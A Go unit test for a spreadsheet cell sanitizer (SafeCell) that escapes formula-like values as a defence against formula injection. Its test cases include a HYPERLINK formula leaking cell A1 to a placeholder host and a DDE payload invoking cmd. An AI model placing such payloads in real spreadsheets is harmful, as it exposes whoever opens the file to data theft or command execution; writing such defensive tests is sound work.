package spreadsheet

import "testing"

func TestSafeCell(t *testing.T) {
	cases := []struct{ in, want string }{
		{"", ""},
		{"Anna", "Anna"},
		{`=HYPERLINK("http://x/?"&A1,"Click")`, `'=HYPERLINK("http://x/?"&A1,"Click")`},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"\tx", "'\tx"},
		{"+7 (999) 000-11-22", "+7 (999) 000-11-22"},
		{"-15", "-15"},
		{"=1", "'=1"},
	}
	for _, tc := range cases {
		if got := SafeCell(tc.in); got != tc.want {
			t.Errorf("SafeCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}
